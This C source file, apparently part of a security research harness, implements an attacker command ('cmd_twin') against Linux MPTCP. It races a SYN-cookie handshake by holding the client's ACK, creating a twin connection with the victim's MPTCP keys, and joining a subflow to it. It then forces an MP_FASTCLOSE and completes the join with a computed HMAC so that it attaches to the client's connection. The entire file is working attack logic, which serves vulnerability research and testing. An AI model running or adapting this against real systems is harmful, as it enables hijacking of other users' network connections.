// SPDX-License-Identifier: GPL-2.0-only
/*
 * With SYN cookies: the ACK that ends the client's first handshake is on its way for a while,
 * as on a long path. In that time the attacker has a connection of their own with both its
 * MPTCP keys, at a listener without a key, asks for a join to it, and ends it. When the
 * client's connection is there, the ACK of that join is for this one.
 */
#include <stdio.h>

#include "attacker.h"

/* via=ADDR of the listener without a key; path=1; ms=N that the ACK takes, at the least */
bool cmd_twin(void)
{
	struct plan syn = { .flags = TH_SYN, .options_len = CAPABLE_SYN_LEN };
	struct plan ack = { .flags = TH_ACK, .options_len = CAPABLE_ACK_LEN };
	struct plan end = { .flags = TH_ACK, .options_len = FASTCLOSE_LEN };
	int path = (int)arg_number("path", "1") - 1;
	int64_t until, arrives;
	uint8_t hmac[SHA256_DIGEST_LENGTH];
	struct frame frame, held_frame;
	struct attempt twin, attempt;
	struct connection target;
	struct segment segment;
	uint32_t cookie;
	bool answered;

	if (!hold_first(&held_frame, &target))
		return false;
	arrives = now_ms() + arg_number("ms", "300");

	/* The twin */
	start_attempt(&twin, &target, &target, 0);
	twin.to.addr = arg_addr("via", "0.0.0.0");
	put_capable(syn.options, CAPABLE_SYN_LEN);
	send_attempt(&twin, &syn);
	do {
		if (!next_segment(&twin, now_ms() + patience_ms, &frame,
				  &segment)) {
			printf(" twin=silent");
			return true;
		}
	} while (!segment.tcp->syn);
	cookie = segment.seq;
	twin.seq++;
	twin.peer_seq = cookie + 1;
	put64(put64(put_capable(ack.options, CAPABLE_ACK_LEN),
		    target.keys[CLIENT]),
	      target.keys[SERVER]);
	send_attempt(&twin, &ack);

	/* A join to it, when it is there */
	until = now_ms() + 50;
	while (now_ms() < until)
		pump(until, false, &frame);
	start_attempt(&attempt, &target, &target, 1);
	attempt.to.addr = twin.to.addr;
	answered = syn_answered(&attempt);
	end.options[0] = MPTCP_KIND;
	end.options[1] = FASTCLOSE_LEN;
	end.options[2] = MP_FASTCLOSE << 4;
	put64(end.options + 4, target.keys[SERVER]);
	send_attempt(&twin, &end);
	pass_first(path, arrives, &held_frame);
	if (!answered)
		return true;

	/* The client's connection is there soon */
	until = now_ms() + patience_ms;
	while (now_ms() < until)
		pump(until, false, &frame);
	join_hmac(target.keys[CLIENT], target.keys[SERVER],
		  attempt.nonces[CLIENT], attempt.nonces[SERVER], hmac);
	end_join(&attempt, &target, hmac);
	return true;
}
